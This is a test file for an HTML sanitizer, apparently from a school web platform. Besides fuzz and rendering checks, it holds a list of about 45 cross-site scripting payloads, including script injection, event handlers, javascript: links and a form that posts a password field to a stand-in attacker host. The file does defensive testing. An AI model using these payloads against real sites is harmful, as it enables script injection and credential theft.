import fc from 'fast-check';
import {
  addressesInHtml,
  renderHtml,
  undescribedPicturesInHtml,
} from '../../../src/shared/markdown/markdown';

/** What may be left of any HTML. */
const TAGS = new Set([
  ...[
    'h1',
    'h2',
    'h3',
    'h4',
    'h5',
    'h6',
    'p',
    'blockquote',
    'ul',
    'ol',
    'li',
    'hr',
    'br',
    'pre',
    'code',
    'em',
  ],
  ...['strong', 's', 'a', 'img', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'span'],
]);
const ATTRIBUTE =
  /^(?:href="[^"]*"|src="(?:https:\/\/|\/v1\/files\/)[^"]*"|(?:alt|title)="[^"]*"|rel="noopener noreferrer nofollow"|start="[^"]*"|class="[\w -]+"|style="text-align:(?:left|center|right)")$/;

const HERE = 'https://school.example/a/page';

/** Whether a browser that follows a link stays here, or goes where the link says in full; it never runs anything. */
function isSafeLink(written: string): boolean {
  const link = written.replace(/&(amp|quot|lt|gt);/g, (_, name: 'amp' | 'quot' | 'lt' | 'gt') => {
    return { amp: '&', quot: '"', lt: '<', gt: '>' }[name];
  });
  if (!URL.canParse(link, HERE)) return true;
  const { protocol, host } = new URL(link, HERE);
  if (host === 'school.example') return true;
  return ['http:', 'https:', 'mailto:'].includes(protocol) && /^(?:https?|mailto):/i.test(link.trim());
}

/** The tags and attributes in what `renderHtml` gave, in which text has no `<`, and no value a `"`. */
function faultsOf(html: string): string[] {
  return [...html.matchAll(/<([^>]*)>/g)].flatMap(([tag, inside = '']) => {
    const [, name = '', rest = ''] = /^\/?([a-z\d]+)([^]*?)\/?\s*$/.exec(inside) ?? [];
    if (!TAGS.has(name)) return [tag];
    const attributes = [...rest.matchAll(/\s+([^\s=]+(?:="[^"]*")?)/g)].map(
      ([, attribute = '']) => attribute,
    );
    return attributes.filter((attribute) => {
      const [, link] = /^href="([^"]*)"$/.exec(attribute) ?? [];
      return !ATTRIBUTE.test(attribute) || (link !== undefined && !isSafeLink(link));
    });
  });
}

const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://e.example/a.png" onload="alert(1)" style="width:expression(alert(1))">',
  '<img src="jav&#x09;ascript:alert(1);">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img """><script>alert(1)</script>">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="//evil.example">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://e.example" target=_blank rel=opener onclick=alert(1)>x</a>',
  '<a id="location" name="body">clobber</a>',
  '<style>@import "//evil.example"</style><link rel=stylesheet href="//evil.example">',
  '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
  '<td style="text-align:center;background:url(javascript:alert(1))">x</td>',
  '<form action="//evil.example"><input name=password autofocus onfocus=alert(1)><button>x</button></form>',
  '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
  '<body onload=alert(1) background="javascript:alert(1)">x</body>',
  '<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)',
  '<template><script>alert(1)</script></template><slot onslotchange=alert(1)>',
  '<!--><script>alert(1)</script>--><!-- --!><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]><?xml version="1.0"?><script>alert(1)</script>',
  '<p class="x" onmouseover="alert(1)">x</p><span class="math evil" style="color:red">x</span>',
  '<b/onclick=alert(1)//>x<a/href=javascript:alert(1)>x',
  '<a href="https://e.example/&quot;onmouseover=&quot;alert(1)">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u0000<script>alert(1)</script><s\u0000cript>alert(1)</script>',
  '<isindex type=image src=1 onerror=alert(1)><keygen autofocus onfocus=alert(1)>',
];

describe('HTML that authors paste', () => {
  it.each(VECTORS)('renderHtml leaves nothing of %p that could act', (source) => {
    expect(faultsOf(renderHtml(source))).toEqual([]);
  });

  it('renderHtml leaves nothing that could act of any mixture of such pieces, and nothing more to remove', () => {
    const pieces = VECTORS.flatMap((vector) => vector.split(/(?=[<>"'/ ])/));
    const anything = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 3 })), {
      maxLength: 20,
    });
    fc.assert(
      fc.property(anything, (parts) => {
        const html = renderHtml(parts.join(''), { files: true });
        expect(faultsOf(html)).toEqual([]);
        expect(renderHtml(html, { files: true })).toBe(html);
      }),
      { numRuns: 1000 },
    );
  });

  it('renderHtml keeps what Markdown has, and the text of everything else', () => {
    const source =
      '<div><h2>Title</h2><p>Some <b>bold</b> <em>words</em></p><table><tr><td style="text-align:right">1</td></tr></table></div>';
    expect(renderHtml(source)).toBe(
      '<h2>Title</h2><p>Some bold <em>words</em></p><table><tr><td style="text-align:right">1</td></tr></table>',
    );
  });

  it('renderHtml leaves the pictures and files of which addressesInHtml and undescribedPicturesInHtml tell', () => {
    const file = '/v1/files/01990000-0000-7000-8000-0000000000f1/content';
    const html = renderHtml(
      `<img alt="A plot" src="${file}"><img src="${file}" alt=" "><a title="x" href="${file}">x</a><img src="http://e.example/a.png">`,
      { files: true },
    );
    expect(addressesInHtml(html)).toEqual([file, file, file]);
    expect(undescribedPicturesInHtml(html)).toEqual([file]);
  });
});
